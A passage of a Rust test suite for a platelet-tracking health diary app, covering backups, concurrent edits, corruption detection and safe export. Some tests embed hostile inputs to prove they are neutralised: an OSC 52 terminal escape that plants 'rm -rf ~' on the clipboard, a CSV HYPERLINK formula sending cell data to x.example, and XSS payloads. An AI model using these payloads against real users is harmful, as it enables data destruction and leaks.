//! Issue 12, the data-safety pass: nothing lost, nothing corrupted, nothing leaked. One test
//! (or more) per numbered item; each fails on the code before the fix.

mod common;

use std::path::Path;
use std::process::Command as StdCommand;

use chrono::DateTime;
use common::{Diary, NOW, cmd_on};
use itp_diary::domain::entry::NewEntry;
use itp_diary::domain::validate;
use itp_diary::store::{Store, StoreError};

fn now() -> chrono::DateTime<chrono::FixedOffset> {
    DateTime::parse_from_rfc3339(NOW).unwrap()
}

fn platelets(n: f64, note: &str) -> NewEntry {
    NewEntry {
        at: now(),
        note: Some(note.into()),
        data: validate::platelets(n, None, None).unwrap().value,
    }
}

fn stderr_of(out: &std::process::Output) -> String {
    String::from_utf8_lossy(&out.stderr).to_string()
}

fn files_in(dir: &Path) -> Vec<String> {
    let mut v: Vec<String> = std::fs::read_dir(dir)
        .map(|rd| {
            rd.map(|e| e.unwrap().file_name().to_string_lossy().to_string())
                .collect()
        })
        .unwrap_or_default();
    v.sort();
    v
}

// 1. Export never overwrites without --force; never the diary, its -wal/-shm, a backup, a
//    device or a FIFO.
#[test]
fn item01_export_refuses_to_overwrite() {
    let d = Diary::new();
    d.ok(&["log", "platelets", "45"]);
    let before = d.content();
    let diary_bytes = std::fs::read(&d.db).unwrap();
    for target in [
        d.db.clone(),
        d.db.with_file_name("diary.sqlite-wal"),
        d.db.with_file_name("diary.sqlite-shm"),
    ] {
        for force in [false, true] {
            let mut c = d.cmd();
            c.args(["export", "--format", "csv", "-o"]).arg(&target);
            if force {
                c.arg("--force");
            }
            let out = c.output().unwrap();
            assert_eq!(
                out.status.code(),
                Some(2),
                "{target:?}: {}",
                stderr_of(&out)
            );
            assert!(
                stderr_of(&out).contains("your diary"),
                "{}",
                stderr_of(&out)
            );
        }
    }
    assert_eq!(std::fs::read(&d.db).unwrap().len(), diary_bytes.len());
    assert_eq!(d.content(), before, "the diary is intact");

    // An existing file: refused, untouched; replaced with --force.
    let other = d.dir.path().join("report.csv");
    std::fs::write(&other, "keep me").unwrap();
    let out = d
        .cmd()
        .args(["export", "--format", "csv", "-o"])
        .arg(&other)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr_of(&out).contains("--force"), "{}", stderr_of(&out));
    assert_eq!(std::fs::read_to_string(&other).unwrap(), "keep me");
    d.cmd()
        .args(["export", "--format", "csv", "--force", "-o"])
        .arg(&other)
        .assert()
        .success();
    assert!(std::fs::read_to_string(&other).unwrap().starts_with("id,"));

    // A backup (an SQLite file) is never replaced, even with --force.
    let backup = d.dir.path().join("copy.sqlite");
    d.ok(&["backup", backup.to_str().unwrap()]);
    let b = std::fs::read(&backup).unwrap();
    let out = d
        .cmd()
        .args(["export", "--format", "json", "--force", "-o"])
        .arg(&backup)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2), "{}", stderr_of(&out));
    assert_eq!(std::fs::read(&backup).unwrap(), b);

    // A FIFO or a device is never written into.
    let fifo = d.dir.path().join("pipe");
    if StdCommand::new("mkfifo")
        .arg(&fifo)
        .status()
        .is_ok_and(|s| s.success())
    {
        let out = d
            .cmd()
            .args(["export", "--format", "csv", "--force", "-o"])
            .arg(&fifo)
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(2), "{}", stderr_of(&out));
        assert!(stderr_of(&out).contains("not a regular file"));
    }
    let out = d
        .cmd()
        .args(["export", "--format", "csv", "--force", "-o", "/dev/null"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2), "{}", stderr_of(&out));
    // Nothing left behind by any refusal.
    assert!(
        files_in(d.dir.path()).iter().all(|n| !n.contains("tmp")),
        "{:?}",
        files_in(d.dir.path())
    );
}

// 2a. A write stating an old version is refused; nothing is written.
#[test]
fn item02_a_stale_update_or_delete_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("d.sqlite");
    let mut a = Store::open(&path).unwrap();
    let mut b = Store::open(&path).unwrap();
    let e = a.add_entry(&platelets(45.0, "first"), now()).unwrap();
    let read_by_a = a.entry(e.id).unwrap();
    let read_by_b = b.entry(e.id).unwrap();
    b.update_entry(&read_by_b, &platelets(50.0, "b"), now())
        .unwrap();
    let err = a
        .update_entry(&read_by_a, &platelets(60.0, "a"), now())
        .unwrap_err();
    assert!(
        matches!(err, StoreError::Changed(id) if id == e.id),
        "{err}"
    );
    assert!(err.to_string().contains("changed elsewhere"));
    let err = a.delete_entry(&read_by_a, now()).unwrap_err();
    assert!(matches!(err, StoreError::Changed(_)));
    let stored = a.entry(e.id).unwrap();
    assert_eq!(stored.note.as_deref(), Some("b"));
    assert!(!stored.deleted);
}

// 2b. Ids are never given twice, and after a restore a stale row (same id, another entry) is
//     not rewritten.
#[test]
fn item02_ids_are_never_reused_and_restore_does_not_redirect_edits() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("d.sqlite");
    let copy = dir.path().join("copy.sqlite");
    let mut s = Store::open(&path).unwrap();
    s.add_entry(&platelets(40.0, "one"), now()).unwrap();
    s.backup_to(&copy).unwrap();
    let two = s.add_entry(&platelets(41.0, "two"), now()).unwrap();
    let mut window = Store::open(&path).unwrap();
    let stale = window.entry(two.id).unwrap();
    s.replace_from(&copy).unwrap();
    // The restored diary has only "one"; the next entry must not get #2 again.
    let three = s.add_entry(&platelets(42.0, "three"), now()).unwrap();
    assert!(three.id > two.id, "id {} given again", three.id);
    // The window still holds #2 ("two"): its edit is refused, nothing is rewritten.
    let err = window
        .update_entry(&stale, &platelets(99.0, "stale"), now())
        .unwrap_err();
    assert!(
        matches!(err, StoreError::NotFound(_) | StoreError::Changed(_)),
        "{err}"
    );
    assert_eq!(s.count_entries(true).unwrap(), 2);
}

// 2c. The TUI: a form opened before an outside edit is refused on Enter with the message, and
//     shows what is stored now.
#[test]
fn item02_tui_form_opened_before_an_outside_edit_is_refused_and_reloaded() {
    use itp_diary::app::config::Settings;
    use itp_diary::domain::clock::Clock;
    use itp_diary::present::i18n::{I18n, Lang};
    use itp_diary::tui::theme::Theme;
    use itp_diary::tui::{Action, App, Modal, Tab};
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("d.sqlite");
    let mut other = Store::open(&path).unwrap();
    let e = other.add_entry(&platelets(45.0, "typed"), now()).unwrap();
    let mut app = App::new(
        Store::open(&path).unwrap(),
        Clock::Fixed(now()),
        I18n::new(Lang::En),
        Settings::default(),
        Theme { color: false },
    );
    app.update(Action::GoTab(Tab::History));
    app.update(Action::Edit);
    assert!(matches!(app.modal, Some(Modal::Form(_))));
    // Another process edits the entry while the form is open.
    let read = other.entry(e.id).unwrap();
    other
        .update_entry(&read, &platelets(80.0, "from the command line"), now())
        .unwrap();
    app.update(Action::FormSave);
    let Some(Modal::Form(f)) = &app.modal else {
        panic!("the form stays open");
    };
    assert!(
        f.error
            .as_deref()
            .unwrap_or("")
            .contains("changed elsewhere"),
        "{:?}",
        f.error
    );
    assert_eq!(
        other.entry(e.id).unwrap().note.as_deref(),
        Some("from the command line"),
        "the outside edit is kept"
    );
    // Saving again (the reloaded version) works.
    app.update(Action::FormSave);
    assert!(app.modal.is_none(), "{:?}", app.message);
}

// 2d. Two processes editing one entry 40 times each: every update is applied or refused with
//     the message; none is silently lost (each stored transition changes one field only).
#[test]
fn item02_two_processes_edit_one_entry_40_times_each() {
    let d = Diary::new();
    d.ok(&["log", "platelets", "45", "--note", "start"]);
    let id = d.json(&["list", "--format", "json"])[0]["id"]
        .as_i64()
        .unwrap();
    let run = |who: &'static str| {
        let db = d.db.clone();
        std::thread::spawn(move || {
            let (mut applied, mut refused) = (0, 0);
            for n in 0..40 {
                let mut c = cmd_on(&db);
                c.args(["edit", &id.to_string()]);
                if who == "value" {
                    c.args(["--value", &(100 + n).to_string()]);
                } else {
                    c.args(["--note", &format!("note {n}")]);
                }
                let out = c.output().unwrap();
                let err = String::from_utf8_lossy(&out.stderr);
                if out.status.success() {
                    applied += 1;
                } else {
                    assert!(err.contains("changed elsewhere"), "{who}: {err}");
                    refused += 1;
                }
            }
            (applied, refused)
        })
    };
    let (a, b) = (run("value"), run("note"));
    let (a, b) = (a.join().unwrap(), b.join().unwrap());
    assert_eq!(a.0 + a.1 + b.0 + b.1, 80);
    let c = rusqlite::Connection::open(&d.db).unwrap();
    let mut states: Vec<(String, Option<String>)> = c
        .prepare("SELECT json_extract(previous, '$.details'), json_extract(previous, '$.note') FROM entry_revisions WHERE entry_id = ?1 ORDER BY id")
        .unwrap()
        .query_map([id], |r| Ok((r.get(0)?, r.get(1)?)))
        .unwrap()
        .map(Result::unwrap)
        .collect();
    states.push(
        c.query_row(
            "SELECT details, note FROM entries WHERE id = ?1",
            [id],
            |r| Ok((r.get(0)?, r.get(1)?)),
        )
        .unwrap(),
    );
    assert_eq!(
        states.len() - 1,
        a.0 + b.0,
        "every applied edit is one version"
    );
    for w in states.windows(2) {
        let changed = usize::from(w[0].0 != w[1].0) + usize::from(w[0].1 != w[1].1);
        assert_eq!(
            changed, 1,
            "an edit undid another: {:?} -> {:?}",
            w[0], w[1]
        );
    }
    eprintln!(
        "concurrency: value edits {} applied / {} refused; note edits {} applied / {} refused",
        a.0, a.1, b.0, b.1
    );
}

// 3. The full JSON backup holds every row (ahead-timed, deleted with deleted_at, revisions) and
//    an import restores them exactly.
#[test]
fn item03_full_backup_holds_every_row_and_restores_exactly() {
    let d = Diary::new();
    d.ok(&["log", "platelets", "45", "--note", "now"]);
    d.ok(&[
        "log",
        "platelets",
        "50",
        "--at",
        "2026-03-11T02:00:00+08:00",
    ]);
    d.ok(&["log", "platelets", "55"]);
    let list = d.json(&["list", "--format", "json"]);
    let ids: Vec<i64> = list
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["id"].as_i64().unwrap())
        .collect();
    assert_eq!(ids.len(), 3);
    d.ok(&["edit", &ids[2].to_string(), "--value", "47"]);
    d.ok(&["delete", &ids[0].to_string()]);
    let b = d.dir.path().join("b.json");
    let out = d
        .cmd()
        .args(["export", "--format", "json", "-o"])
        .arg(&b)
        .output()
        .unwrap();
    assert!(
        stderr_of(&out).contains("(3 entries"),
        "{}",
        stderr_of(&out)
    );
    let doc: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&b).unwrap()).unwrap();
    assert_eq!(doc["entries"].as_array().unwrap().len(), 3);
    let deleted: Vec<_> = doc["entries"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["deleted"] == true)
        .collect();
    assert_eq!(deleted.len(), 1);
    assert!(deleted[0]["deleted_at"].is_string());
    assert_eq!(doc["entry_revisions"].as_array().unwrap().len(), 2);
    // Into an empty diary: the same rows, the same delete time, the same history.
    let e = Diary::new();
    e.ok(&["import", b.to_str().unwrap()]);
    let without_ids = |d: &Diary| {
        let mut v: Vec<serde_json::Value> = d
            .json(&["list", "--deleted", "--format", "json"])
            .as_array()
            .unwrap()
            .clone();
        for e in &mut v {
            e.as_object_mut().unwrap().remove("id");
        }
        v.sort_by_key(|e| e["uid"].to_string());
        v
    };
    assert_eq!(without_ids(&e), without_ids(&d));
    let b2 = e.dir.path().join("b2.json");
    e.cmd()
        .args(["export", "--format", "json", "-o"])
        .arg(&b2)
        .assert()
        .success();
    let doc2: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&b2).unwrap()).unwrap();
    assert_eq!(doc2["entries"], doc["entries"]);
    assert_eq!(doc2["entry_revisions"], doc["entry_revisions"]);
    // The CSV without --to holds the entry timed ahead too.
    let csv = d.ok(&["export", "--format", "csv"]);
    assert_eq!(csv.lines().count(), 1 + 2, "{csv}");
}

// 4. Two restores in one second keep two safety copies.
#[test]
fn item04_safety_copies_never_overwrite_each_other() {
    let d = Diary::new();
    d.ok(&["log", "platelets", "45"]);
    let copy = d.dir.path().join("copy.sqlite");
    d.ok(&["backup", copy.to_str().unwrap()]);
    d.ok(&["log", "platelets", "60"]);
    d.ok(&["restore", copy.to_str().unwrap()]);
    d.ok(&["log", "platelets", "70"]);
    d.ok(&["restore", copy.to_str().unwrap()]);
    let backups = d.db.parent().unwrap().join("backups");
    let kept: Vec<String> = files_in(&backups)
        .into_iter()
        .filter(|n| n.contains("before-restore"))
        .collect();
    assert_eq!(kept.len(), 2, "{kept:?}");
    // Same for manual backups in one second.
    d.ok(&["backup"]);
    d.ok(&["backup"]);
    let manual = files_in(&backups)
        .into_iter()
        .filter(|n| n.starts_with("diary-2026"))
        .count();
    assert_eq!(manual, 2);
}

// 5. Automatic backups are named by the diary: a second diary in the folder gets its own.
#[test]
fn item05_automatic_backups_are_per_diary() {
    let d = Diary::new();
    d.ok(&["log", "platelets", "45"]);
    let second = d.db.with_file_name("mother.sqlite");
    cmd_on(&second)
        .args(["log", "platelets", "120"])
        .assert()
        .success();
    let backups = files_in(&d.db.parent().unwrap().join("backups"));
    assert!(
        backups.contains(&"diary-auto-2026-03-10.sqlite".to_string()),
        "{backups:?}"
    );
    assert!(
        backups.contains(&"mother-auto-2026-03-10.sqlite".to_string()),
        "{backups:?}"
    );
}

/// Overwrite one page of `table` with garbage (the file stays an SQLite file; the table's
/// b-tree is damaged): what a failing disk does.
fn damage_table(db: &Path, table: &str) {
    let (root, size): (i64, i64) = {
        let c = rusqlite::Connection::open(db).unwrap();
        c.execute_batch("PRAGMA wal_checkpoint(TRUNCATE)").unwrap();
        (
            c.query_row(
                "SELECT rootpage FROM sqlite_master WHERE name = ?1",
                [table],
                |r| r.get(0),
            )
            .unwrap(),
            c.query_row("PRAGMA page_size", [], |r| r.get(0)).unwrap(),
        )
    };
    let mut bytes = std::fs::read(db).unwrap();
    let at = ((root - 1) * size) as usize;
    for b in &mut bytes[at..at + 64] {
        *b = 0xEE;
    }
    std::fs::write(db, bytes).unwrap();
}

// 6. A damaged diary is not copied into the automatic backups; the good ones stay; the newest
//    good one is named.
#[test]
fn item06_a_damaged_diary_never_replaces_a_good_backup() {
    let d = Diary::new();
    d.ok(&["note", "--for-visit", "can we taper?"]);
    d.ok(&["log", "platelets", "45"]);
    let backups = d.db.parent().unwrap().join("backups");
    assert_eq!(files_in(&backups), ["diary-auto-2026-03-10.sqlite"]);
    damage_table(&d.db, "visit_questions");
    for day in 11..=20 {
        let out = d
            .cmd()
            .env("ITP_DIARY_NOW", format!("2026-03-{day}T09:00:00+08:00"))
            .args(["list"])
            .output()
            .unwrap();
        assert!(out.status.success(), "{}", stderr_of(&out));
        let err = stderr_of(&out);
        assert!(err.contains("failed its check"), "{err}");
        assert!(
            err.contains("newest good backup is") && err.contains("diary-auto-2026-03-10.sqlite"),
            "{err}"
        );
    }
    assert_eq!(files_in(&backups), ["diary-auto-2026-03-10.sqlite"]);
}

// 7. Another program's SQLite file is refused untouched (no WAL switch, no migration); diaries
//    carry the application id.
#[test]
fn item07_a_foreign_database_is_refused_untouched() {
    let d = Diary::new();
    std::fs::create_dir_all(d.db.parent().unwrap()).unwrap();
    rusqlite::Connection::open(&d.db)
        .unwrap()
        .execute_batch(
            "CREATE TABLE entries (id INTEGER PRIMARY KEY, kind TEXT, at TEXT);
             INSERT INTO entries (kind, at) VALUES ('invoice', 'today');
             PRAGMA user_version = 1;",
        )
        .unwrap();
    let before = std::fs::read(&d.db).unwrap();
    for args in [vec!["list"], vec!["log", "platelets", "45"]] {
        let out = d.cmd().args(&args).output().unwrap();
        assert_eq!(out.status.code(), Some(1), "{}", stderr_of(&out));
        assert!(stderr_of(&out).contains("is not an itp-diary database"));
    }
    assert_eq!(std::fs::read(&d.db).unwrap(), before, "file changed");
    assert!(!d.db.with_file_name("diary.sqlite-wal").exists());
    // A new diary is marked; an old one (version 1, no mark) is marked by its migration.
    let e = Diary::new();
    e.ok(&["log", "platelets", "45"]);
    let app = |p: &Path| -> i64 {
        rusqlite::Connection::open(p)
            .unwrap()
            .query_row("PRAGMA application_id", [], |r| r.get(0))
            .unwrap()
    };
    assert_eq!(app(&e.db), itp_diary::store::APPLICATION_ID);
    let f = Diary::new();
    std::fs::create_dir_all(f.db.parent().unwrap()).unwrap();
    std::fs::copy("tests/fixtures/diary-v1.sqlite", &f.db).unwrap();
    assert_eq!(app(&f.db), 0);
    f.ok(&["list"]);
    assert_eq!(app(&f.db), itp_diary::store::APPLICATION_ID);
}

// 8. A diary that lost its newest confirmed changes (what a damaged write-ahead log does:
//    SQLite stops at the first bad frame without a word) is reported, and ids are not given
//    again.
#[test]
fn item08_lost_changes_are_reported_and_ids_never_reused() {
    let d = Diary::new();
    d.ok(&["log", "platelets", "45"]);
    d.ok(&["log", "platelets", "46"]);
    rusqlite::Connection::open(&d.db)
        .unwrap()
        .execute_batch("PRAGMA wal_checkpoint(TRUNCATE)")
        .unwrap();
    let older = std::fs::read(&d.db).unwrap();
    d.ok(&["log", "platelets", "47"]);
    d.ok(&["log", "platelets", "48"]); // #4, confirmed
    // The last two commits vanish.
    for s in ["-wal", "-shm"] {
        let _ = std::fs::remove_file(d.db.with_file_name(format!("diary.sqlite{s}")));
    }
    std::fs::write(&d.db, older).unwrap();
    let out = d.cmd().args(["log", "platelets", "49"]).output().unwrap();
    assert!(out.status.success(), "{}", stderr_of(&out));
    let err = stderr_of(&out);
    assert!(
        err.contains("fewer changes than were last confirmed"),
        "{err}"
    );
    assert!(err.contains("#4"), "{err}");
    let list = d.json(&["list", "--format", "json"]);
    let newest = list
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["id"].as_i64().unwrap())
        .max();
    assert_eq!(
        newest,
        Some(5),
        "the new entry must not take #3 or #4 again"
    );
    // Said once, not on every command.
    let out = d.cmd().args(["list"]).output().unwrap();
    assert!(!stderr_of(&out).contains("fewer changes"));
}

// 9. A killed migration never leaves a partial before-migration copy under its final name.
#[test]
fn item09_migration_copy_is_complete_or_absent() {
    let bin = assert_cmd::cargo::cargo_bin("itp-diary");
    for round in 0..12u64 {
        let d = Diary::new();
        std::fs::create_dir_all(d.db.parent().unwrap()).unwrap();
        std::fs::copy("tests/fixtures/diary-v1.sqlite", &d.db).unwrap();
        let mut child = StdCommand::new(&bin)
            .arg("--db")
            .arg(&d.db)
            .args(["list"])
            .env("ITP_DIARY_NOW", NOW)
            .env("ITP_DIARY_CONFIG", d.db.with_file_name("config.toml"))
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()
            .unwrap();
        std::thread::sleep(std::time::Duration::from_millis(round * 3));
        let _ = child.kill();
        let _ = child.wait();
        for name in files_in(d.db.parent().unwrap()) {
            if name.contains("before-migration") && name.ends_with(".sqlite") {
                let c = rusqlite::Connection::open(d.db.with_file_name(&name)).unwrap();
                let n: i64 = c
                    .query_row("SELECT count(*) FROM entries", [], |r| r.get(0))
                    .unwrap();
                assert_eq!(n, 9, "round {round}: {name} is incomplete");
            }
        }
        // Whatever was killed, the diary itself opens with its nine entries.
        let list = d.json(&["list", "--deleted", "--format", "json"]);
        assert_eq!(list.as_array().unwrap().len(), 9);
    }
}

// 10. Escapes and bidi overrides never reach the terminal raw: refused on input, made visible
//     on output (a crafted diary's fields, the Saved line, list, remind, note --list).
#[test]
fn item10_terminal_escapes_are_refused_on_input_and_made_visible_on_output() {
    let d = Diary::new();
    let osc52 = "\u{1b}]52;c;cm0gLXJmIH4=\u{7}";
    for args in [
        vec!["log", "platelets", "45", "--lab", osc52],
        vec!["log", "platelets", "45", "--note", "a\u{202E}b"],
        vec!["note", "--for-visit", "evil\u{2066}x"],
    ] {
        let out = d.cmd().args(&args).output().unwrap();
        assert_eq!(out.status.code(), Some(2), "{args:?}: {}", stderr_of(&out));
        assert!(!stderr_of(&out).contains('\u{1b}'));
    }
    assert_eq!(d.content(), "<no file>");
    // A diary written by something else (a crafted backup, a hand edit).
    d.ok(&["log", "platelets", "45", "--lab", "clinic"]);
    d.ok(&["note", "--for-visit", "question"]);
    {
        let c = rusqlite::Connection::open(&d.db).unwrap();
        c.execute(
            "UPDATE entries SET details = json_set(details, '$.lab', ?1), note = ?2",
            ["x\u{202E}y", osc52],
        )
        .unwrap();
        c.execute("UPDATE visit_questions SET text = ?1", [osc52])
            .unwrap();
    }
    for args in [
        vec!["list"],
        vec!["note", "--list"],
        vec!["status"],
        vec!["remind"],
        vec!["edit", "1", "--value", "50"],
    ] {
        let out = d.cmd().args(&args).output().unwrap();
        let all = format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            stderr_of(&out)
        );
        assert!(
            !all.contains('\u{1b}') && !all.contains('\u{202E}'),
            "{args:?}: {all:?}"
        );
    }
    let list = d.ok(&["list"]);
    assert!(list.contains("␛]52"), "{list}");
    // Machine formats keep the raw value.
    let json = d.json(&["list", "--format", "json"]);
    assert_eq!(json[0]["note"], osc52);
}

// 11. Bracketed paste: a paste is text for the focused field only, never keys.
#[test]
fn item11_a_paste_is_text_for_the_focused_field_only() {
    use itp_diary::app::config::Settings;
    use itp_diary::domain::clock::Clock;
    use itp_diary::present::i18n::{I18n, Lang};
    use itp_diary::tui::theme::Theme;
    use itp_diary::tui::{Action, App, Modal};
    let mut app = App::new(
        Store::open_in_memory().unwrap(),
        Clock::Fixed(now()),
        I18n::new(Lang::En),
        Settings::default(),
        Theme { color: false },
    );
    // Outside a form a pasted "t" (take dose) does nothing.
    app.on_paste("t");
    assert!(app.modal.is_none());
    assert_eq!(app.store.count_entries(true).unwrap(), 0);
    app.update(Action::New(itp_diary::domain::entry::Kind::Platelets));
    app.on_paste("45\rw");
    let Some(Modal::Form(f)) = &app.modal else {
        panic!("the form stays open: the pasted Enter was not a key");
    };
    assert_eq!(f.fields[f.focus].value, "45w");
    assert_eq!(app.store.count_entries(true).unwrap(), 0, "nothing saved");
}

// 12. CSV formula injection is neutralised in every CSV; JSON keeps the raw value.
#[test]
fn item12_csv_formulas_are_neutralised() {
    let d = Diary::new();
    let evil = "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")";
    d.ok(&["log", "platelets", "45", "--note", evil]);
    d.ok(&["log", "platelets", "46", "--lab", "@SUM(1+1)"]);
    d.ok(&["log", "platelets", "47", "--note=-2+3"]);
    for csv in [
        d.ok(&["export", "--format", "csv"]),
        d.ok(&["list", "--format", "csv"]),
    ] {
        let mut r = csv::Reader::from_reader(csv.as_bytes());
        for row in r.records() {
            for cell in row.unwrap().iter() {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "live formula: {cell}"
                );
            }
        }
        assert!(csv.contains("'=HYPERLINK"), "{csv}");
        assert!(csv.contains("'@SUM"));
    }
    let json = d.json(&["list", "--format", "json"]);
    assert!(json.as_array().unwrap().iter().any(|e| e["note"] == evil));
}

// 13. Markdown export escapes raw HTML from notes and questions.
#[test]
fn item13_markdown_escapes_raw_html() {
    let d = Diary::new();
    d.ok(&[
        "log",
        "platelets",
        "45",
        "--note",
        "<img src=x onerror=alert(1)>",
    ]);
    d.ok(&["note", "--for-visit", "<script>alert(2)</script> taper?"]);
    let md = d.ok(&["export", "--format", "md"]);
    assert!(!md.contains("<img") && !md.contains("<script"), "{md}");
    assert!(md.contains("&lt;script&gt;"), "{md}");
}

// 14. config.toml is created 0600 in a 0700 folder, whatever the umask.
#[test]
fn item14_settings_file_is_owner_only() {
    use std::os::unix::fs::PermissionsExt;
    let d = Diary::new();
    let cfg = d.dir.path().join("conf").join("sub").join("config.toml");
    let out = StdCommand::new("sh")
        .arg("-c")
        .arg("umask 000; exec \"$0\" --db \"$1\" --config \"$2\" config init")
        .arg(assert_cmd::cargo::cargo_bin("itp-diary"))
        .arg(&d.db)
        .arg(&cfg)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr_of(&out));
    let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode(&cfg), 0o600);
    assert_eq!(mode(cfg.parent().unwrap()), 0o700);
}

// 15. Temporary files: none left after a failed export; stale ones of dead processes swept.
#[test]
fn item15_temporary_files_are_cleaned_and_swept() {
    let d = Diary::new();
    d.ok(&["log", "platelets", "45"]);
    let data = d.db.parent().unwrap().to_path_buf();
    // Left by a killed process (pid 999999 does not run): swept at the next start. A file
    // of a running process (ours) is kept.
    let dead = data.join(".report.csv.itp-tmp-999999-abc123");
    let old_style = data.join("diary.partial-999998");
    let alive = data.join(format!(".x.itp-tmp-{}-zz", std::process::id()));
    for p in [&dead, &old_style, &alive] {
        std::fs::write(p, "health data").unwrap();
    }
    d.ok(&["list"]);
    assert!(!dead.exists() && !old_style.exists());
    assert!(alive.exists());
    // A failed export (a folder as target) leaves nothing.
    let folder = d.dir.path().join("out");
    std::fs::create_dir(&folder).unwrap();
    let out = d
        .cmd()
        .args(["export", "--format", "csv", "--force", "-o"])
        .arg(&folder)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert_eq!(files_in(&folder).len(), 0);
    assert!(files_in(d.dir.path()).iter().all(|n| !n.contains("tmp")));
}

fn chattr(flag: &str, p: &Path) -> bool {
    StdCommand::new("chattr")
        .arg(flag)
        .arg(p)
        .status()
        .is_ok_and(|s| s.success())
}

/// Make `p` read-only even for root (`chattr +i`), or by permissions; false when impossible.
fn read_only(p: &Path) -> bool {
    use std::os::unix::fs::PermissionsExt;
    if chattr("+i", p) {
        return true;
    }
    let mode = if p.is_dir() { 0o500 } else { 0o400 };
    std::fs::set_permissions(p, std::fs::Permissions::from_mode(mode)).is_ok()
        && std::fs::OpenOptions::new().write(true).open(p).is_err()
}

fn writable_again(p: &Path) {
    use std::os::unix::fs::PermissionsExt;
    chattr("-i", p);
    let mode = if p.is_dir() { 0o700 } else { 0o600 };
    let _ = std::fs::set_permissions(p, std::fs::Permissions::from_mode(mode));
}

// 16. A diary (or backup) on read-only media: reading commands work; writing says read-only.
#[test]
fn item16_read_only_diary_and_backups_can_be_read() {
    let d = Diary::new();
    d.ok(&["log", "platelets", "45"]);
    let folder = d.db.parent().unwrap().to_path_buf();
    let copy = d.dir.path().join("media").join("copy.sqlite");
    std::fs::create_dir_all(copy.parent().unwrap()).unwrap();
    d.ok(&["backup", copy.to_str().unwrap()]);
    d.ok(&["log", "platelets", "60"]);
    rusqlite::Connection::open(&d.db)
        .unwrap()
        .execute_batch("PRAGMA wal_checkpoint(TRUNCATE)")
        .unwrap();
    for s in ["-wal", "-shm"] {
        let _ = std::fs::remove_file(d.db.with_file_name(format!("diary.sqlite{s}")));
    }
    if !read_only(&folder) || !read_only(copy.parent().unwrap()) {
        eprintln!("cannot make folders read-only here; skipped");
        writable_again(&folder);
        return;
    }
    let listed = d.cmd().args(["list", "--format", "json"]).output().unwrap();
    let status = d.cmd().args(["status"]).output().unwrap();
    let write = d.cmd().args(["log", "platelets", "70"]).output().unwrap();
    writable_again(&folder);
    // The backup on read-only media restores (it is a sound file, not "damaged").
    let restored = d.cmd().args(["restore"]).arg(&copy).output().unwrap();
    writable_again(copy.parent().unwrap());
    assert!(listed.status.success(), "{}", stderr_of(&listed));
    let v: serde_json::Value = serde_json::from_slice(&listed.stdout).unwrap();
    assert_eq!(v.as_array().unwrap().len(), 2);
    assert!(status.status.success(), "{}", stderr_of(&status));
    assert_eq!(write.status.code(), Some(1));
    assert!(
        stderr_of(&write).contains("read-only"),
        "{}",
        stderr_of(&write)
    );
    assert!(restored.status.success(), "{}", stderr_of(&restored));
    assert_eq!(
        d.json(&["list", "--format", "json"])
            .as_array()
            .unwrap()
            .len(),
        1
    );
}

// 17. Each failure names its real cause, the path given and what to do.
#[test]
fn item17_messages_name_the_real_cause() {
    let d = Diary::new();
    d.ok(&["log", "platelets", "45"]);
    // A sound backup with another page size restores.
    let small = d.dir.path().join("small.sqlite");
    {
        let e = Diary::new();
        e.ok(&["log", "platelets", "99"]);
        let c = rusqlite::Connection::open(&e.db).unwrap();
        c.execute_batch("PRAGMA journal_mode = DELETE; PRAGMA page_size = 1024; VACUUM;")
            .unwrap();
        drop(c);
        std::fs::copy(&e.db, &small).unwrap();
    }
    let out = d.cmd().args(["restore"]).arg(&small).output().unwrap();
    assert!(out.status.success(), "{}", stderr_of(&out));
    assert_eq!(d.json(&["list", "--format", "json"])[0]["value"], 99.0);
    // A damaged diary: says damaged and what to do.
    let e = Diary::new();
    e.ok(&["log", "platelets", "45"]);
    damage_table(&e.db, "entries");
    let out = e.cmd().args(["list"]).output().unwrap();
    let err = stderr_of(&out);
    assert!(
        err.contains("damaged") && err.contains("itp-diary restore"),
        "{err}"
    );
    // A dangling symlink is named as such, with its target.
    let f = Diary::new();
    std::fs::create_dir_all(f.db.parent().unwrap()).unwrap();
    std::os::unix::fs::symlink(f.dir.path().join("gone").join("real.sqlite"), &f.db).unwrap();
    let out = f.cmd().args(["log", "platelets", "45"]).output().unwrap();
    let err = stderr_of(&out);
    assert!(
        err.contains("symbolic link") && err.contains("real.sqlite"),
        "{err}"
    );
    assert!(!err.contains("read-only"), "{err}");
    // A missing folder names the path the user gave, not a temporary file.
    let target = d.dir.path().join("no-such-folder").join("r.csv");
    let out = d
        .cmd()
        .args(["export", "--format", "csv", "-o"])
        .arg(&target)
        .output()
        .unwrap();
    let err = stderr_of(&out);
    assert!(
        err.contains("r.csv") && err.contains("does not exist"),
        "{err}"
    );
    assert!(!err.contains("itp-tmp") && !err.contains("r.tmp-"), "{err}");
}

// 18. A failed daily backup after a save says the entry is saved.
#[test]
fn item18_a_failed_backup_says_the_entry_is_saved() {
    let d = Diary::new();
    std::fs::create_dir_all(d.db.parent().unwrap()).unwrap();
    // The backups folder cannot be made: a file is in its place.
    std::fs::write(d.db.parent().unwrap().join("backups"), "x").unwrap();
    let out = d.cmd().args(["log", "platelets", "45"]).output().unwrap();
    assert!(out.status.success());
    let err = stderr_of(&out);
    assert!(
        err.contains("only the daily automatic backup failed"),
        "{err}"
    );
    assert!(!err.contains("unchanged"), "{err}");
    assert_eq!(
        d.json(&["list", "--format", "json"])
